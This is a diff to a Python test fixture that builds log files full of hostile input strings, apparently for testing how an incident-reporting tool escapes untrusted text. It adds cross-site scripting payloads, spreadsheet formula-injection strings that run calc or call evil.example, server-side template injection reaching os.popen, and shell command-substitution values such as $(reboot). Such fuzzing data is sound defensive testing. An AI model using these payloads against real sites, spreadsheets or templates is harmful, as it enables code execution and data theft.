@@ -7,6 +7,7 @@ from typing import TYPE_CHECKING
 
 if TYPE_CHECKING:
     from collections.abc import Sequence
+    from pathlib import Path
 
 TERMINAL = (
     "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;owned\x07", "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
@@ -37,17 +38,43 @@ OTHER = (
     "T+00:00", "$(reboot)", "`reboot`", "x; reboot", "'; reboot; '", "é\u0301", "e" + "\u0301" * 50, "🙂", "שלום", "日本語",
     "\ud800 half", "half \udfff", "\udcff byte", "A" * 5000, "`" * 300, "[" * 300, "\u202e" * 300,
 )  # fmt: skip
-TEXTS: tuple[str, ...] = (*TERMINAL, *INVISIBLE, *MARKUP, *MARKDOWN, *OTHER)
+BROWSER = (
+    "</script><script>alert(1)</script>", "<!--<script>", "<script src=//evil.example></script>", "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>", "<iframe srcdoc='<script>alert(1)</script>'>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<a href=javascript:alert(1)>x", "<base href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example>", "<style>@import '//evil.example'</style>",
+    "<form action=//evil.example><input name=x>", "<object data=//evil.example>", "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<xmp><script>alert(1)</script>", "<textarea><script>alert(1)</script>",
+    "<title></title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</dialog></main></article>", "<input autofocus onfocus=alert(1)>",
+    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "'-alert(1)-'", "\"-alert(1)-\"", "\\u003cscript\\u003ealert(1)", "&lt;script&gt;",
+    "<scr\x00ipt>alert(1)</scr\x00ipt>", "<img src=`x` onerror=`alert(1)`>", "<video><source onerror=alert(1)>", "#i1-e1", "i1-e1' tabindex='0",
+)  # fmt: skip
+SHEET = (
+    "=HYPERLINK(\"http://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1", "\r=1+1", "＝1+1", " =1+1", "'=1+1", "\"=1+1", ";=1+1", ",=1+1", "=IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")", "%0A=1+1", "|=1+1",
+)  # fmt: skip
+TEMPLATES = (
+    "{{ report }}", "{{ ''.__class__.__mro__ }}", "{% for x in range(9) %}x{% endfor %}", "{# gone #}", "{%- raw -%}", "{{ config }}", "${{ 7*7 }}", "#{7*7}",
+    "<%= 7*7 %>", "*{7*7}", "{{constructor.constructor('alert(1)')()}}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "%(password)s", "{report.command}",
+)  # fmt: skip
+MERMAID = (
+    "graph TD; A-->B", "click A \"javascript:alert(1)\"", "section x", "14:02 : x", "title y", "x : y : z", "%%{init: {'theme':'dark'}}%%", "::icon(fa)", "gantt", "A[\"<b>\"]",
+    "end", "; B", "#35;", "timeline",
+)  # fmt: skip
+JSON = ('"},{"x":"', '\\"', "\\u0000", "/*", "]}", "NaN", "__proto__", '{"$ref":"x"}', "\\ud800")
+TEXTS: tuple[str, ...] = (
+    *TERMINAL, *INVISIBLE, *MARKUP, *MARKDOWN, *OTHER, *BROWSER, *SHEET, *TEMPLATES, *MERMAID, *JSON,
+)  # fmt: skip
 
 PATTERN = """
-id = 'shop.till.jammed'
+id = 'shop.till.jammed-NUMBER'
 title = 'The till is jammed'
 role = 'cause'
 category = 'backend-down'
 severity = 'critical'
 [[match]]
-contains = 'till of user'
-regex = '''till of user (?P<user>.+) is jammed at (?P<path>.+) today'''
+contains = 'till NUMBER of user'
+regex = '''till NUMBER of user (?P<user>.+) is jammed at (?P<path>.+) today'''
 [worker]
 state = 'poisoned'
 [explain]
@@ -58,7 +85,7 @@ fix = 'Open {path} for {user}.'
 prevent = 'Oil {path}.'
 [[example]]
 log = '''
-[Tue Mar 03 14:02:11.120001 2020] [shop:error] [pid 7:tid 7] till of user x is jammed at /srv/x today
+[Tue Mar 03 14:02:11.120001 2020] [shop:error] [pid 7:tid 7] till NUMBER of user x is jammed at /srv/x today
 '''
 """
 TRIGGER = """
@@ -81,6 +108,15 @@ def line(when: datetime, level: str, pid: int, client: str, text: str) -> str:
     return f"{head}[client {client}:4711] {text}"
 
 
+def write(folder: Path, texts: Sequence[str], name: str = "error.log") -> Path:
+    """Write the log of these texts into a folder, and the patterns that know it: one a text, or they would be chronic."""
+    for number in range(len(texts)):
+        (folder / f"{number:03}.toml").write_text(PATTERN.replace("NUMBER", str(number)))
+    (folder / "trigger.toml").write_text(TRIGGER)
+    (folder / name).write_bytes(log_of(texts))
+    return folder / name
+
+
 def log_of(texts: Sequence[str]) -> bytes:
     """A log in which each text makes an incident of its own, and stands in all places that a client can fill.
 
@@ -92,7 +128,7 @@ def log_of(texts: Sequence[str]) -> bytes:
         lines.append(line(begin - timedelta(seconds=60), "notice", 100, "203.0.113.8", f"new keys for {text}"))
         for second in range(6):
             pid, client = 1000 + 10 * number + second, f"203.0.113.{second + 1}"
-            told = f"till of user {text} is jammed at /srv/{text} today, referer: http://shop.example/{text}"
+            told = f"till {number} of user {text} is jammed at /srv/{text} today, referer: http://shop.example/{text}"
             lines.append(line(begin + timedelta(seconds=second), "error", pid, client, told))
         if number % 2 == 0:  # few of these are told
             odd, more = chr(ord("a") + number // 2) * 9, texts[(number + 1) % len(texts)]
